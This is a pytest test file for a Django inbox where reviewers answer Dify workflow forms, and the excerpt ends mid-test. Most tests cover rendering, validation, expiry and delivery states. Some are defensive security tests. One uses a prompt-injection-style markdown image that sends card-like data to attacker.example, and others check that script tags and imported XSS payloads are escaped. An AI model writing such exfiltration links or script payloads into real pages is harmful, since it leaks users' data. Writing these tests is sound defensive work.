from __future__ import annotations

import datetime as dt
import re
from typing import Any

import pytest
from django.contrib.auth.models import Group, User
from django.test import Client
from django.utils import timezone

from inbox.models import Decision, DifyApp, Form, Upload
from tests.review.conftest import full_definition, make_form, make_run
from tests.review.xss import PAYLOADS, executable_markup

pytestmark = pytest.mark.smoke


def body(page: str) -> str:
    match = re.search(r'<section id="form-body".*?</section>', page, re.S)
    assert match, page
    return match.group(0)


def test_anonymous_visitors_are_sent_to_log_in(client: Client, form: Form) -> None:
    url = f"/forms/{form.public_id}/"
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"] == f"/accounts/login/?next={url}"
    assert client.post(url + "decide", {"action": "approve"}).status_code == 302


def test_a_decision_sent_after_the_session_ended_says_so_in_the_page(
    client: Client, form: Form
) -> None:
    # Not a redirect: XHR would follow it and htmx swap the sign-in page into the form. Not
    # a reload either: the reviewer may have typed a note. The page's error alert says what
    # happened, with a link to reload once they have what they typed.
    page = f"http://testserver/forms/{form.public_id}/"
    for language, text in (
        ("en", "Nothing was sent: you are signed out. Copy anything you typed, then reload"),
        ("zh-hans", "未发送任何内容：您已退出登录。"),  # noqa: RUF001
    ):
        response = client.post(
            f"/forms/{form.public_id}/decide",
            {"action": "approve", "in_note": "my careful note"},
            HTTP_HX_REQUEST="true",
            HTTP_HX_CURRENT_URL=page,
            HTTP_ACCEPT_LANGUAGE=language,
        )
        assert response.status_code == 403
        assert response["HX-Retarget"] == "#request-error-text"
        assert response["HX-Reswap"] == "innerHTML"
        part = response.content.decode()
        assert text in part and f'<a href="/forms/{form.public_id}/">' in part
    assert not Decision.objects.exists()


def test_the_page_carries_its_words_for_refusals_without_a_message(
    alice: Client, form: Form
) -> None:
    # A 500, or a proxy's 502, comes with no words of ours: the page has them, in its language.
    page = alice.get(f"/forms/{form.public_id}/", HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
    assert '<div id="request-error-text" role="alert"></div>' in page
    assert 'data-status-5xx="服务器出现问题（{status}）。' in page  # noqa: RUF001
    assert 'data-status-429-in="请求过多，请{when}再试。"' in page  # noqa: RUF001
    assert '"Accept-Language": "zh-hans"' in page


def test_an_unknown_form_has_a_designed_not_found_page(alice: Client, db: None) -> None:
    response = alice.get("/forms/00000000-0000-0000-0000-000000000000/")
    assert response.status_code == 404
    assert "This form does not exist, or you may not see it." in response.content.decode()


def test_an_open_form_places_each_input_at_its_placeholder(alice: Client, form: Form) -> None:
    page = body(alice.get(f"/forms/{form.public_id}/").content.decode())
    order = [m.group(1) for m in re.finditer(r'data-name="(\w+)"', page)]
    # note and decision sit where the content names them; the files follow the content.
    assert order == ["note", "decision", "receipt", "evidence"]
    assert page.index("Customer <strong>Ada</strong>") < page.index('data-name="note"')
    assert (
        page.index('data-name="note"')
        < page.index("Choose the outcome:")
        < page.index('data-name="decision"')
    )
    assert "unknown_field" not in page and "{{#" not in page


def test_every_input_kind_is_drawn(alice: Client, form: Form) -> None:
    page = body(alice.get(f"/forms/{form.public_id}/").content.decode())
    assert (
        '<textarea id="id_in_note" name="in_note" rows="4" dir="auto">\nresolved default</textarea>'
        in page
    )
    for option in ("refund", "partial", "deny"):
        assert f'<input type="radio" name="in_decision" value="{option}">' in page
    # Each kind named with the extensions Dify takes as it (an iPhone's .HEIC is no image).
    images = "images (GIF, JPEG, JPG, PNG, SVG, WEBP)"
    documents = "documents (CSV, DOCX, HTM, HTML, MARKDOWN, MD, MDX, PDF, PROPERTIES, TXT, VTT, "
    assert "One file" in page and f"Accepted: {images}, {documents}XLS, XLSX)" in page
    assert "Up to 3 files" in page and f"Accepted: {images}, .dwg" in page
    assert 'accept=".gif,.jpeg,.jpg,.png,.svg,.webp,.dwg"' in page
    assert f'hx-post="/forms/{form.public_id}/files/receipt"' in page
    assert '<input type="url" id="url-receipt" name="in_receipt"' in page


def test_required_inputs_are_marked_and_the_actions_are_drawn_ready_to_send(
    alice: Client, dify_app: DifyApp
) -> None:
    definition = full_definition()
    # A choice whose options Dify could not resolve: typed, and required all the same.
    definition["inputs"].append(
        {
            "type": "select",
            "output_variable_name": "region",
            "option_source": {"type": "variable", "selector": ["start", "regions"], "value": []},
        }
    )
    definition["inputs"].append(
        {
            "type": "file",
            "output_variable_name": "scan_link",
            "allowed_file_types": ["document"],
            "allowed_file_extensions": [],
            "allowed_file_upload_methods": ["remote_url"],
        }
    )
    form = make_form(dify_app, definition=definition)
    page = body(alice.get(f"/forms/{form.public_id}/").content.decode())

    def field(name: str) -> str:
        match = re.search(
            rf'<div class="field [^"]*" data-kind="[^"]+" data-name="{name}".*?(?=<div class="field |<div class="actions")',
            page,
            re.S,
        )
        assert match, name
        return match.group(0)

    # Required as the server checks them: the single file as the choices are, with its label
    # named for the script's hint; the note and the list of files are not.
    receipt = field("receipt")
    assert 'data-label="Receipt" data-required' in receipt
    assert '<legend>Receipt <span class="req" aria-hidden="true">*</span></legend>' in receipt
    assert re.search(r'<input type="file"[^>]*aria-required="true"', receipt)
    assert 'id="url-receipt"' in receipt and not re.search(
        r'id="url-receipt"[^>]*aria-required', receipt
    )
    # Only web addresses taken: the address is what is required.
    assert re.search(r'id="url-scan_link"[^>]*aria-required="true"', field("scan_link"))
    region = field("region")
    assert "data-required" in region and 'aria-required="true"' in region
    assert '<span class="req" aria-hidden="true">*</span></label>' in region
    for name in ("note", "evidence"):
        assert "data-required" not in field(name) and "aria-required" not in field(name)
        assert 'class="req"' not in field(name)
    # Drawn sendable: a browser without script sends, and the server says what is missing.
    actions = page[page.index('<div class="actions"') :]
    assert "disabled" not in actions.split("</form>")[0]
    response = alice.post(f"/forms/{form.public_id}/decide", {"action": "approve"})
    assert response.status_code == 400
    assert "<li>Receipt: Add a file.</li>" in response.content.decode()


def test_a_long_option_list_is_a_dropdown(alice: Client, dify_app: DifyApp) -> None:
    definition = full_definition()
    definition["inputs"][1]["option_source"]["value"] = [f"option {i}" for i in range(8)]
    form = make_form(dify_app, definition=definition)
    page = alice.get(f"/forms/{form.public_id}/").content.decode()
    assert '<select id="id_in_decision" name="in_decision" aria-required="true">' in page
    assert '<option value="option 7">option 7</option>' in page


def test_file_list_without_a_limit_is_capped_at_ten_on_the_page(
    alice: Client, dify_app: DifyApp
) -> None:
    definition = full_definition()
    definition["inputs"][3]["number_limits"] = 0
    form = make_form(dify_app, definition=definition)
    page = alice.get(f"/forms/{form.public_id}/").content.decode()
    assert "Up to 10 files" in page and 'data-max="10"' in page


def test_action_buttons_carry_difys_four_styles(alice: Client, form: Form) -> None:
    page = alice.get(f"/forms/{form.public_id}/").content.decode()
    for action, style, title in [
        ("approve", "primary", "Approve"),
        ("escalate", "accent", "Escalate"),
        ("reject", "default", "Reject"),
        ("skip", "ghost", "Skip"),
    ]:
        assert (
            f'<button type="submit" name="action" value="{action}" class="btn {style}">{title}</button>'
            in page
        )


def test_the_form_token_never_reaches_the_page(alice: Client, form: Form) -> None:
    token = form.form_token
    assert token
    for url in (f"/forms/{form.public_id}/", f"/forms/{form.public_id}/live?state=open&run=", "/"):
        assert token not in alice.get(url).content.decode()


def test_an_image_the_content_chose_is_a_link_not_a_request(
    alice: Client, dify_app: DifyApp
) -> None:
    # What a prompt injection would write: the page must not fetch it when the reviewer looks.
    form = make_form(
        dify_app,
        content="Summary\n\n![status](https://attacker.example/p.png?q=4111-1111)\n\n"
        "{{#$output.note#}}",
    )
    page = alice.get(f"/forms/{form.public_id}/").content.decode()
    assert '<img src="https://attacker' not in page
    assert "attacker.example" not in "".join(re.findall(r"<img[^>]*>", page))
    assert (
        '<a href="https://attacker.example/p.png?q=4111-1111" rel="noopener noreferrer nofollow">'
        'status</a> <span class="image-blocked">Image not loaded: attacker.example</span>'
    ) in body(page)


def test_each_page_gets_its_own_submission_key(alice: Client, form: Form) -> None:
    keys = {
        re.search(
            r'name="submission_key" value="(\w+)"',
            alice.get(f"/forms/{form.public_id}/").content.decode(),
        ).group(1)  # type: ignore[union-attr]
        for _ in range(2)
    }
    assert len(keys) == 2


def test_the_expiry_is_counted_down_and_urgent_in_the_last_hour(
    alice: Client, dify_app: DifyApp
) -> None:
    form = make_form(dify_app, expires_in=dt.timedelta(minutes=40))
    page = alice.get(f"/forms/{form.public_id}/").content.decode()
    assert 'class="expiry urgent"' in page
    assert "in 39 minutes" in page or "in 40 minutes" in page


def test_times_are_shown_in_the_reviewers_time_zone(alice: Client, dify_app: DifyApp) -> None:
    expires = dt.datetime(2031, 5, 1, 12, 0, tzinfo=dt.UTC)
    form = make_form(dify_app, expires_in=None, expiration_time=expires)
    alice.cookies["tz"] = "Asia/Shanghai"
    page = alice.get(f"/forms/{form.public_id}/").content.decode()
    assert "(May 1, 2031, 8 p.m. Asia/Shanghai)" in page


def test_invalid_post_keeps_values_and_explains(alice: Client, form: Form) -> None:
    response = alice.post(
        f"/forms/{form.public_id}/decide",
        {"action": "approve", "in_note": "my careful note", "in_decision": "", "in_evidence": ""},
    )
    assert response.status_code == 400
    page = body(response.content.decode())
    assert "Please correct the following:" in page
    # Named as the page labels them, not by their variable.
    assert "<li>Decision: Choose an option.</li>" in page
    assert "<li>Receipt: Add a file.</li>" in page
    assert "my careful note</textarea>" in page
    assert not Decision.objects.exists()


def test_a_decision_carries_only_the_reviewer_s_own_uploads(
    alice: Client, form: Form, other_reviewer: User
) -> None:
    theirs = Upload.objects.create(
        form=form,
        uploaded_by=other_reviewer,
        input_name="receipt",
        upload_file_id="dify-theirs",
        name="theirs.pdf",
        size=10,
        category="document",
    )
    response = alice.post(
        f"/forms/{form.public_id}/decide",
        {
            "action": "approve",
            "in_note": "ok",
            "in_decision": "refund",
            "in_receipt": str(theirs.public_id),
            "in_evidence": "",
        },
    )
    assert response.status_code == 400
    assert "<li>Receipt: This file was uploaded by someone else; upload your own.</li>" in (
        body(response.content.decode())
    )
    assert not Decision.objects.exists()


def test_a_page_sent_again_with_its_files_is_the_same_decision_and_with_others_is_refused(
    alice: Client, form: Form, reviewer: User, django_capture_on_commit_callbacks: Any
) -> None:
    """The page sends itself again under its key after a server error or a timeout: the same
    files, in whatever order the browser lists them, are the decision it made; other files
    under that key (the page shown again, its files changed) are not sent, as the API refuses
    them (`other_files`)."""

    def upload(input_name: str, name: str) -> str:
        made = Upload.objects.create(
            form=form,
            uploaded_by=reviewer,
            input_name=input_name,
            upload_file_id=f"dify-{name}",
            name=name,
            size=10,
            category="image" if name.endswith(".png") else "document",
        )
        return str(made.public_id)

    receipt = upload("receipt", "r.pdf")
    e1, e2, e3 = (upload("evidence", f"e{n}.png") for n in (1, 2, 3))

    def decide(evidence: list[str]) -> Any:
        post = {
            "action": "approve",
            "in_note": "ok",
            "in_decision": "refund",
            "in_receipt": [receipt],
            # The hidden upload ids, then the (empty) box for web addresses.
            "in_evidence": [*evidence, ""],
            "submission_key": "k-page",
        }
        with django_capture_on_commit_callbacks(execute=False):
            return alice.post(f"/forms/{form.public_id}/decide", post, HTTP_HX_REQUEST="true")

    assert decide([e1, e2]).status_code == 200
    again = decide([e2, e1]).content.decode()
    assert "Decision queued; it is on its way to Dify." in again
    assert "already decided this form at" not in again
    other = decide([e1, e3]).content.decode()
    # Not taken for the decision sent again: refused, said as when someone got there first.
    assert "already decided this form at" in other
    decision = Decision.objects.get(form=form)
    assert [f["upload_file_id"] for f in decision.inputs["evidence"]] == [
        "dify-e1.png",
        "dify-e2.png",
    ]


def test_web_addresses_the_check_refused_are_drawn_back_as_typed(alice: Client, form: Form) -> None:
    response = alice.post(
        f"/forms/{form.public_id}/decide",
        {
            "action": "approve",
            "in_note": "ok",
            "in_decision": "refund",
            "in_receipt": "https://files.example.org/r.pdf",
            "in_evidence": "not a url\nftp://x.example/a.png\nhttps://files.example.org/a.png",
        },
    )
    assert response.status_code == 400
    page = body(response.content.decode())
    # Every line, the refused ones too, for the reviewer to put right; the field says it is
    # the one in error.
    assert (
        "not a url&#10;ftp://x.example/a.png&#10;https://files.example.org/a.png</textarea>" in page
    )
    assert 'id="url-evidence"' in page
    assert re.search(
        r'id="url-evidence"[^>]*aria-invalid="true" aria-describedby="err-evidence"', page
    )


def test_invalid_htmx_post_swaps_the_body_with_200(alice: Client, form: Form) -> None:
    response = alice.post(
        f"/forms/{form.public_id}/decide", {"action": "nope"}, HTTP_HX_REQUEST="true"
    )
    assert response.status_code == 200
    part = response.content.decode()
    assert part.lstrip().startswith('<section id="form-body"')
    assert "“nope” is not an action of this form." in part


def test_expired_form_says_so_and_takes_no_decision(alice: Client, dify_app: DifyApp) -> None:
    form = make_form(dify_app, expires_in=-dt.timedelta(minutes=5))
    page = body(alice.get(f"/forms/{form.public_id}/").content.decode())
    assert "This form expired." in page and "decision-form" not in page
    response = alice.post(f"/forms/{form.public_id}/decide", {"action": "approve"})
    assert response.status_code == 409


def test_a_form_closed_by_a_stopped_run_says_so_not_that_it_timed_out(
    alice: Client, dify_app: DifyApp
) -> None:
    form = make_form(dify_app, expires_in=dt.timedelta(hours=5), status=Form.Status.EXPIRED)
    form.run.status, form.run.finished_at = "stopped", timezone.now()
    form.run.save(update_fields=["status", "finished_at"])
    page = body(alice.get(f"/forms/{form.public_id}/").content.decode())
    assert "This form closed without a decision." in page
    assert "Its run was stopped before a decision was made." in page
    assert "timeout path" not in page and "decision-form" not in page
    # Its badge too: "Closed", not "Expired".
    full = alice.get(f"/forms/{form.public_id}/").content.decode()
    assert '<span id="form-status" class="badge expired">Closed</span>' in full


def test_submitted_form_shows_who_when_which_action_and_the_record(
    alice: Client, dify_app: DifyApp, reviewer: User
) -> None:
    form = make_form(
        dify_app,
        status=Form.Status.SUBMITTED,
        decided_at=dt.datetime(2030, 1, 2, 10, 30, tzinfo=dt.UTC),
        filled_action_id="approve",
        filled_action_text="Approve",
        rendered_content="Refund **approved** <script>window.__xss=1</script>",
    )
    Decision.objects.create(
        form=form, action_id="approve", reviewer=reviewer, status=Decision.Status.DELIVERED
    )
    page = body(alice.get(f"/forms/{form.public_id}/").content.decode())
    assert "By Alice" in page
    assert "Jan. 2, 2030, 10:30 a.m." in page
    assert "Action: <strong>Approve</strong>" in page
    assert "Refund <strong>approved</strong>" in page
    assert "<script>" not in page


def test_a_form_answered_here_whose_fill_no_stream_showed_reads_as_answered(
    alice: Client, dify_app: DifyApp, reviewer: User
) -> None:
    # The run ended before the follower reopened its stream: Dify's record of the answer (the
    # fill event's rendered content) never came. What was sent, and Dify accepted, is known.
    content = (
        "Refund for **Ada**\n\n{{#$output.note#}}\n\nOutcome: {{#$output.decision#}}\n\n"
        "Receipt: {{#$output.receipt#}}\n\nEvidence: {{#$output.evidence#}}\n"
    )
    form = make_form(
        dify_app,
        status=Form.Status.SUBMITTED,
        filled_action_id="approve",
        filled_action_text="Approve",
        content=content,
        definition=full_definition(form_content=content),
    )
    Upload.objects.create(
        form=form,
        input_name="receipt",
        upload_file_id="f-receipt",
        name="receipt-104233.pdf",
        size=10,
        category="document",
    )
    inputs = {
        "note": "Paid back <b>today</b>.",
        "decision": "partial",
        "receipt": {"transfer_method": "local_file", "upload_file_id": "f-receipt"},
        "evidence": [
            {"transfer_method": "remote_url", "url": "https://files.example.com/photo.png"},
            {"transfer_method": "local_file", "upload_file_id": "f-unknown"},
        ],
    }
    decision = Decision.objects.create(
        form=form,
        action_id="approve",
        reviewer=reviewer,
        status=Decision.Status.QUEUED,
        inputs=inputs,
    )
    # Not yet accepted by Dify: the content is shown as it was asked, each input's place a
    # blank rather than Dify's placeholder.
    page = body(alice.get(f"/forms/{form.public_id}/").content.decode())
    assert "{{#$output" not in page and "Record" not in page
    assert "Outcome: —" in page and "Paid back" not in page
    Decision.objects.filter(pk=decision.pk).update(status=Decision.Status.DELIVERED)
    page = body(alice.get(f"/forms/{form.public_id}/").content.decode())
    assert "{{#$output" not in page
    assert "Paid back &lt;b&gt;today&lt;/b&gt;." in page and "Outcome: partial" in page
    assert "Receipt: receipt-104233.pdf" in page
    # A web address given for a file is a link, as any bare address in content is.
    assert (
        'Evidence: <a href="https://files.example.com/photo.png" rel="noopener noreferrer '
        'nofollow">https://files.example.com/photo.png</a>, [file]' in page
    )
    assert executable_markup(page) == []


def test_an_expired_form_shows_blanks_and_a_failed_one_what_was_decided(
    alice: Client, dify_app: DifyApp, reviewer: User
) -> None:
    content = "Conditions: {{#$output.note#}}\n\nOutcome: {{#$output.decision#}}\n"
    expired = make_form(
        dify_app,
        status=Form.Status.EXPIRED,
        content=content,
        definition=full_definition(form_content=content),
    )
    page = body(alice.get(f"/forms/{expired.public_id}/").content.decode())
    assert "This form expired." in page
    assert "Conditions: —" in page and "{{#$output" not in page
    failed = make_form(
        dify_app,
        status=Form.Status.FAILED,
        content=content,
        definition=full_definition(form_content=content),
    )
    Decision.objects.create(
        form=failed,
        action_id="approve",
        reviewer=reviewer,
        status=Decision.Status.FAILED,
        inputs={"note": "Only with a signed NDA.", "decision": "partial"},
        last_error="Dify could not be reached after 12 attempts. Last error: boom",
    )
    page = body(alice.get(f"/forms/{failed.public_id}/").content.decode())
    assert "The decision could not be delivered." in page
    assert "Alice chose “Approve”." in page
    assert "Decided here, not delivered" in page and "Record" not in page
    assert "Conditions: Only with a signed NDA." in page and "Outcome: partial" in page
    # Answered in Dify first, with which answer Dify did not say: the reviewer's own words are
    # still there, marked as not delivered.
    elsewhere = make_form(
        dify_app,
        status=Form.Status.ANSWERED_ELSEWHERE,
        content=content,
        definition=full_definition(form_content=content),
    )
    Decision.objects.create(
        form=elsewhere,
        action_id="approve",
        reviewer=reviewer,
        status=Decision.Status.REJECTED,
        inputs={"note": "Fine by me.", "decision": "refund"},
        last_error="This form was answered in Dify before this decision arrived.",
    )
    page = body(alice.get(f"/forms/{elsewhere.public_id}/").content.decode())
    assert "Answered in Dify; which action is not known." in page
    assert "Decided here, not delivered" in page and "Conditions: Fine by me." in page
    assert "Dify did not tell the inbox which action was taken" in page


def test_a_decision_that_arrived_after_the_form_closed_in_dify_keeps_its_words(
    alice: Client, dify_app: DifyApp, reviewer: User
) -> None:
    # Dify timed the form out before its deadline (a global timeout, say); the decision sent
    # from here was refused as expired. The page says so, and shows what was decided.
    content = "Conditions: {{#$output.note#}}\n\nOutcome: {{#$output.decision#}}\n"
    deadline = timezone.now() + dt.timedelta(days=3)
    form = make_form(
        dify_app,
        status=Form.Status.EXPIRED,
        content=content,
        definition=full_definition(form_content=content),
        expires_in=None,
        expiration_time=deadline,
    )
    Decision.objects.create(
        form=form,
        action_id="approve",
        reviewer=reviewer,
        status=Decision.Status.REJECTED,
        inputs={"note": "Checked the invoice twice.", "decision": "refund"},
        last_error="The form expired in Dify before the decision arrived.",
    )
    page = body(alice.get(f"/forms/{form.public_id}/").content.decode())
    assert "This form expired." in page
    assert "It closed in Dify before its deadline (" in page and "It closed at" not in page
    assert "Alice chose “Approve”, but the form had closed before the decision reached Dify" in page
    assert (
        "Decided here, not delivered" in page and "Conditions: Checked the invoice twice." in page
    )


def test_a_form_past_its_deadline_reads_expired_before_the_sweep_records_it(
    alice: Client, dify_app: DifyApp
) -> None:
    form = make_form(
        dify_app, expires_in=None, expiration_time=timezone.now() - dt.timedelta(seconds=5)
    )
    assert form.status == Form.Status.PENDING  # the sweep has not run
    page = alice.get(f"/forms/{form.public_id}/").content.decode()
    assert '<span id="form-status" class="badge expired">Expired</span>' in page
    assert "This form expired." in page and "Take this form" not in page


def test_a_form_answered_elsewhere_reads_with_what_dify_said_was_submitted(
    alice: Client, dify_app: DifyApp
) -> None:
    content = "Outcome: {{#$output.decision#}}\n\nNote: {{#$output.note#}}\n"
    form = make_form(
        dify_app,
        status=Form.Status.ANSWERED_ELSEWHERE,
        filled_action_text="Reject",
        content=content,
        definition=full_definition(form_content=content),
        filled_data={"decision": "deny"},
    )
    page = body(alice.get(f"/forms/{form.public_id}/").content.decode())
    assert "<p>Outcome: deny</p>" in page and "<p>Note:</p>" in page
    assert "Answered in Dify: Reject" in page and "did not tell the inbox" not in page


def test_answered_elsewhere_and_not_answerable_and_failed(alice: Client, dify_app: DifyApp) -> None:
    elsewhere = make_form(
        dify_app, status=Form.Status.ANSWERED_ELSEWHERE, filled_action_text="Reject"
    )
    assert "Answered in Dify: Reject" in body(
        alice.get(f"/forms/{elsewhere.public_id}/").content.decode()
    )
    email_only = make_form(dify_app, form_token="", approval_channels=["email"])
    page = body(alice.get(f"/forms/{email_only.public_id}/").content.decode())
    assert (
        "This form cannot be answered here." in page and '<span class="chip">email</span>' in page
    )
    failed = make_form(dify_app, status=Form.Status.FAILED)
    Decision.objects.create(
        form=failed,
        action_id="approve",
        status=Decision.Status.FAILED,
        last_error="Dify answered 500 five times.",
    )
    page = body(alice.get(f"/forms/{failed.public_id}/").content.decode())
    assert (
        "The decision could not be delivered." in page and "Dify answered 500 five times." in page
    )


def test_a_rejected_decision_is_explained_with_the_values_kept(
    alice: Client, form: Form, reviewer: User, reviewers_group: Group
) -> None:
    Decision.objects.create(
        form=form,
        reviewer=reviewer,
        action_id="approve",
        status=Decision.Status.REJECTED,
        last_error="Missing required inputs: note",
        inputs={
            "note": "what I wrote",
            "decision": "partial",
            "receipt": {
                "transfer_method": "remote_url",
                "url": "https://example.com/r.pdf",
                "type": "document",
            },
            "evidence": [],
        },
    )
    page = body(alice.get(f"/forms/{form.public_id}/").content.decode())
    assert (
        "Dify did not accept the last decision." in page and "Missing required inputs: note" in page
    )
    assert "what I wrote</textarea>" in page
    assert '<input type="radio" name="in_decision" value="partial" checked>' in page
    assert 'value="https://example.com/r.pdf"' in page
    assert "Your values are kept below" in page
    # A colleague who opens the form is told why it is open again, and starts from their own
    # values: what Alice typed is not theirs to send under their name.
    carl = User.objects.create_user("carl", password="pw-carl-123", first_name="Carl")
    carl.groups.add(reviewers_group)
    other = Client()
    other.force_login(carl)
    page = body(other.get(f"/forms/{form.public_id}/").content.decode())
    assert (
        "Dify did not accept the last decision." in page and "Missing required inputs: note" in page
    )
    assert "It was Alice's decision. The form is open again: you may answer it." in page
    assert "Your values are kept below" not in page and "what I wrote" not in page
    assert 'value="partial" checked' not in page and "https://example.com/r.pdf" not in page


def test_a_decision_in_flight_polls_every_second(alice: Client, form: Form, reviewer: User) -> None:
    form.status = Form.Status.SUBMITTING
    form.save()
    Decision.objects.create(form=form, action_id="approve", reviewer=reviewer)
    page = alice.get(f"/forms/{form.public_id}/").content.decode()
    assert "Decision queued; it is on its way to Dify." in page
    assert 'hx-trigger="every 1s"' in page and "state=in_flight-queued" in page


def test_the_live_poll_redraws_the_body_only_when_the_state_changed(
    alice: Client, form: Form, reviewer: User
) -> None:
    url = f"/forms/{form.public_id}/live"
    run_version = form.run.updated_at.isoformat()
    quiet = alice.get(
        url, {"state": "open", "run": run_version}, HTTP_HX_REQUEST="true"
    ).content.decode()
    assert (
        quiet.lstrip().startswith('<div id="live"')
        and "form-body" not in quiet
        and "run-panel" not in quiet
    )
    Form.objects.filter(pk=form.pk).update(status=Form.Status.ANSWERED_ELSEWHERE, form_token="")
    changed = alice.get(url, {"state": "open", "run": run_version}, HTTP_HX_REQUEST="true")
    text = changed.content.decode()
    assert (
        '<section id="form-body" class="form-body state-answered_elsewhere" hx-swap-oob="true"'
        ' data-settled="This form is now: Answered elsewhere. Nothing can be sent for it any more.">'
        in text
    )
    assert "Answered elsewhere" in changed["HX-Trigger"]


def test_someone_else_reviewing_is_shown(
    client: Client, form: Form, reviewer: User, other_reviewer: User
) -> None:
    client.force_login(other_reviewer)
    client.get(f"/forms/{form.public_id}/")
    client.force_login(reviewer)
    page = client.get(f"/forms/{form.public_id}/").content.decode()
    assert "Bob is reviewing this too." in page
    # Your own presence is never announced to you.
    client.force_login(other_reviewer)
    assert (
        "is reviewing this"
        in client.get(f"/forms/{form.public_id}/live?state=open&run=").content.decode()
    )
    assert (
        "Bob is reviewing"
        not in client.get(f"/forms/{form.public_id}/live?state=open&run=").content.decode()
    )


def test_the_names_of_others_reviewing_are_listed_with_the_languages_separator(
    client: Client, form: Form, reviewer: User, other_reviewer: User, reviewers_group: Group
) -> None:
    third = User.objects.create_user("tom", "tom@example.com", "pw-tom-123", first_name="Tom & Co")
    third.groups.add(reviewers_group)
    for user in (other_reviewer, third):
        client.force_login(user)
        client.get(f"/forms/{form.public_id}/")
    client.force_login(reviewer)
    url = f"/forms/{form.public_id}/"
    english = client.get(url, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "Bob, Tom &amp; Co are reviewing this too." in english
    # Chinese lists with the enumeration comma, as the file names of an upload's message are.
    chinese = client.get(url, HTTP_ACCEPT_LANGUAGE="zh-Hans").content.decode()
    assert "Bob\u3001Tom &amp; Co \u4e5f\u5728\u67e5\u770b\u6b64\u8868\u5355\u3002" in chinese
    assert "Bob, Tom" not in chinese and "Tom & Co" not in chinese


def test_the_run_panel_shows_status_timeline_outputs_and_the_next_form(
    alice: Client, dify_app: DifyApp, reviewer: User
) -> None:
    run = make_run(
        dify_app,
        started_by=reviewer,
        status="succeeded",
        outputs={"summary": "Refund sent", "amount": {"eur": 120}},
        timeline=[
            {
                "event": "node_finished",
                "title": "Fetch order",
                "status": "succeeded",
                "at": "2030-01-01T10:00:00+00:00",
            }
        ],
    )
    form = make_form(dify_app, run=run, status=Form.Status.SUBMITTED)
    following = make_form(dify_app, run=run, node_title="Finance sign-off")
    page = alice.get(f"/forms/{form.public_id}/").content.decode()
    panel = re.search(r'<aside id="run-panel".*?</aside>', page, re.S).group(0)  # type: ignore[union-attr]
    assert "Succeeded" in panel and "Alice" in panel
    assert "Fetch order" in panel
    assert "Refund sent" in panel and "&quot;eur&quot;: 120" in panel
    assert f'href="/forms/{following.public_id}/"' in panel and "Finance sign-off" in panel
    # Timeline statuses are words in the reviewer's language, not Dify's codes.
    chinese = alice.get(f"/forms/{form.public_id}/", HTTP_ACCEPT_LANGUAGE="zh-hans").content
    assert '<span class="tl-status">Succeeded</span>' in panel
    assert '<span class="tl-status">成功</span>' in chinese.decode()


def test_files_in_a_run_s_outputs_read_as_their_names_on_both_pages(
    alice: Client, dify_app: DifyApp, reviewer: User
) -> None:
    run = make_run(
        dify_app,
        started_by=reviewer,
        status="succeeded",
        outputs={
            # A file input's value, passed on by the workflow...
            "receipt": {"transfer_method": "local_file", "upload_file_id": "f-1", "type": "image"},
            # ... Dify's own file objects, whose URL is signed: it is not shown.
            "evidence": [
                {
                    "dify_model_identity": "__dify__file__",
                    "transfer_method": "local_file",
                    "related_id": "f-2",
                    "filename": "dify-name.png",
                    "url": "https://dify.example/files/f-3/file-preview?sign=secret",
                },
                {
                    "dify_model_identity": "__dify__file__",
                    "transfer_method": "remote_url",
                    "filename": "scan.pdf",
                    "url": "https://dify.example/files/x?sign=secret",
                },
            ],
            "count": 2,
        },
    )
    form = make_form(dify_app, run=run, status=Form.Status.SUBMITTED)
    for file_id, name in (("f-1", "receipt-104233.png"), ("f-2", "photo-of-box.png")):
        Upload.objects.create(
            form=form, input_name="x", upload_file_id=file_id, name=name, size=1, category="image"
        )
    for url in (f"/forms/{form.public_id}/", f"/runs/{run.public_id}/"):
        page = alice.get(url).content.decode()
        outputs = re.search(r'<dl class="outputs">.*?</dl>', page, re.S).group(0)  # type: ignore[union-attr]
        assert "<dt>receipt</dt><dd><pre>receipt-104233.png</pre></dd>" in outputs, url
        assert "<dt>evidence</dt><dd><pre>photo-of-box.png\nscan.pdf</pre></dd>" in outputs
        assert "<dt>count</dt><dd><pre>2</pre></dd>" in outputs
        assert "sign=secret" not in page and "transfer_method" not in page


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_in_titles_options_and_file_names_are_escaped(
    alice: Client, dify_app: DifyApp, payload: str
) -> None:
    definition = full_definition()
    definition["inputs"][1]["option_source"]["value"] = [payload, "ok"]
    definition["user_actions"][0]["title"] = payload
    form = make_form(
        dify_app,
        definition=definition,
        node_title=payload,
        content=f"{payload}\n\n{{{{#$output.note#}}}}",
    )
    Upload.objects.create(
        form=form,
        input_name="receipt",
        upload_file_id="u1",
        name=payload[:200],
        size=1,
        category="document",
    )
    Decision.objects.create(
        form=form,
        action_id="approve",
        status=Decision.Status.REJECTED,
        inputs={
            "receipt": {"transfer_method": "local_file", "upload_file_id": "u1", "type": "document"}
        },
    )
    page = alice.get(f"/forms/{form.public_id}/").content.decode()
    inbox = alice.get("/").content.decode()
    for html in (page, inbox):
        assert "<script>window.__xss" not in html
        assert executable_markup(html) == [], payload


def test_a_decision_being_retried_tells_the_reviewer_in_their_language_and_keeps_the_detail(
    alice: Client, form: Form, reviewer: User
) -> None:
    form.status = Form.Status.SUBMITTING
    form.save()
    Decision.objects.create(
        form=form,
        action_id="approve",
        reviewer=reviewer,
        attempts=2,
        last_error="POST /form/human_input/***: ConnectError",
    )
    for language, says in (
        ("en", "The last attempt did not get through; the decision is sent again automatically."),
        ("zh-hans", "上次尝试未能送达；决定会自动重新发送。"),  # noqa: RUF001
    ):
        page = body(
            alice.get(f"/forms/{form.public_id}/", HTTP_ACCEPT_LANGUAGE=language).content.decode()
        )
        assert says in page
        # What went wrong stays at hand, folded away.
        assert re.search(
            r"<details[^>]*><summary>[^<]+</summary>POST /form/human_input/\*\*\*: ConnectError</details>",
            page,
        )


def test_the_worker_s_own_reasons_read_in_the_page_s_language_and_dify_s_words_as_they_are(
    alice: Client, form: Form, reviewer: User
) -> None:
    form.status = Form.Status.SUBMITTING
    form.save()
    decision = Decision.objects.create(
        form=form,
        action_id="approve",
        reviewer=reviewer,
        attempts=2,
        last_error="The delivery was interrupted; trying again.",
    )
    page = alice.get(f"/forms/{form.public_id}/", HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
    assert "投递被中断，正在重试。" in page and "The delivery was interrupted" not in page  # noqa: RUF001
    Form.objects.filter(pk=form.pk).update(status=Form.Status.FAILED)
